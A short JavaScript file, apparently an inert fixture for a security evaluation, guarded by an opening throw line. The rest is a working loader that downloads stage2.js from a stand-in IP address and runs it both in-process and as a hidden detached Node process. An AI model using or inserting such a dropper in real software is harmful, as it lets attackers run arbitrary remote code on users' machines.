throw new Error("cordon eval replica: inert data, never run");
const https = require("https");
const { spawn } = require("child_process");

https.get("https://203.0.113.47/stage2.js", (res) => {
  let code = "";
  res.on("data", (d) => { code += d; });
  res.on("end", () => {
    new Function("require", code)(require);
    spawn(process.execPath, ["-e", code], { detached: true, stdio: "ignore" }).unref();
  });
});
